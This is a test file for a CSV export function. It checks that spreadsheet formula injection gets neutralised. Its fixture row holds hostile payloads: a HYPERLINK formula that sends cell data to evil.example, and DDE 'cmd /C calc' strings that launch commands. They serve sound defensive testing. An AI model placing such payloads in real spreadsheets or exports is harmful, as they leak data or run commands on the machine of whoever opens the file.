import { describe, expect, it } from 'vitest';
import { atlasToCsv } from './export.ts';
import { neutralise, parseCsv, toCsv } from './csv.ts';
import { action, atlasOf } from '../../../tests/fixtures/atlas.ts';

// A row an attacker could get into the data through a pasted summary or a malicious pull request.
const hostile = {
  ...action('fra-2022', 'FRA', '2022-03', 'advisory'),
  summary: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  scope: '+1',
  notes: '-cmd|\' /C calc\'!A0',
  authority: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  instrument: '\t=1+1',
  deadlines: [{ date: { iso: '2022-04-01', precision: 'day' as const }, text: '=1+1' }],
};
const atlas = atlasOf(['FRA'], { actions: [hostile] });

function cells(csv: string): Record<string, string> {
  const table = parseCsv(csv);
  return Object.fromEntries(table.header.map((h, i) => [h.value, table.rows[0].fields[i].value]));
}

describe('events.csv is safe to open in a spreadsheet', () => {
  const row = cells(atlasToCsv(atlas));

  it('turns every text cell that a spreadsheet would run as a formula into text', () => {
    expect(row.summary).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(row.scope).toBe("'+1");
    expect(row.notes).toBe("'-cmd|' /C calc'!A0");
    expect(row.authority).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row.instrument).toBe("'\t=1+1");
  });

  it('leaves dates, ids and ordinary text as they are', () => {
    expect(row.date).toBe('2022-03');
    expect(row.date_precision).toBe('month');
    expect(row.id).toBe('fra-2022');
    expect(row.jurisdiction).toBe('FRA');
    // Starts with a date, so not a formula.
    expect(row.deadlines).toBe('2022-04-01: =1+1');
  });
});

describe('toCsv', () => {
  it('writes numbers as numbers, negative ones included, and neutralises text that looks like one', () => {
    expect(toCsv([[-3, 2.5, '-3', '2022-03', '\rx']])).toBe("-3,2.5,'-3,2022-03,\"'\rx\"\r\n");
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a cell that starts with %j', (c) => {
    expect(neutralise(`${c}x`)).toBe(`'${c}x`);
  });

  it('leaves a cell with those characters inside it alone', () => {
    expect(neutralise('a=b, c+d, e-f, g@h')).toBe('a=b, c+d, e-f, g@h');
  });
});
